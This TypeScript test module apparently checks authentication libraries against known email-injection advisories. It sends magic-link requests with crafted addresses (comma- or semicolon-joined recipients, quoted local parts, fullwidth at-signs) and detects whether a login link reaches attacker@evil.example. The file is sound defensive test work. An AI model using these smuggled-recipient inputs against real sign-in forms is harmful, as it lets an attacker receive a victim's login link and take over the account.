import { createExhibit, toVerdict } from '../exhibit.ts'
import type { Exhibit, Verdict } from '../exhibit.ts'
import { signInByEmail } from '../sign-in.ts'
import type { Capabilities, Subject } from '../subject.ts'
import type { Mail } from '../subjects/mails.ts'
import { authCore, nextAuth } from '../versions.ts'

const victim = 'victim@corp.example'
const attacker = 'attacker@evil.example'

/** Attacks on the text that a user types as an email address. */
export const emails: readonly Exhibit[] = [
  createExhibit({
    ids: ['GHSA-xv97-c62v-4587'],
    affected: nextAuth('4.10.2'),
    needs: ['email'],
    attack: (subject) =>
      requestLinks(
        subject,
        [`${victim},${attacker}`, `${attacker},${victim}`, `${victim};${attacker}`],
        reachesAttacker,
      ),
  }),
  createExhibit({
    ids: ['GHSA-5jpx-9hw9-2fx4'],
    affected: authCore('0.41.0'),
    needs: ['email'],
    attack: (subject) =>
      requestLinks(
        subject,
        [`"${attacker} x"@corp.example`, `"${attacker}"@corp.example`],
        reachesAttacker,
      ),
  }),
  createExhibit({
    ids: ['GHSA-7rqj-j65f-68wh'],
    affected: authCore('0.41.0'),
    needs: ['email'],
    attack: (subject) =>
      requestLinks(
        subject,
        [`${attacker}\u{FF20}corp.example`, `${attacker}\u{FE6B}corp.example`],
        ({ address }) => address.normalize('NFKC').split('@').length > 2,
      ),
  }),
]

function reachesAttacker({ recipients }: Mail): boolean {
  return recipients.includes(attacker)
}

/** Requests links for texts that are not one email address. */
async function requestLinks(
  subject: Subject & Pick<Capabilities, 'email'>,
  texts: readonly string[],
  isWrong: (mail: Mail) => boolean,
): Promise<Verdict> {
  await signInByEmail(subject, victim)
  for (const text of texts) {
    const { status } = await subject.email.request(subject.browse(), text)
    const wrong = subject.email.mails.all.find(isWrong)
    if (wrong !== undefined)
      return toVerdict(
        true,
        `${text}: status ${status}, a link is sent to ${wrong.recipients.join(' and ')}`,
      )
  }
  return toVerdict(false, `no email for ${texts.join(' and ')}`)
}
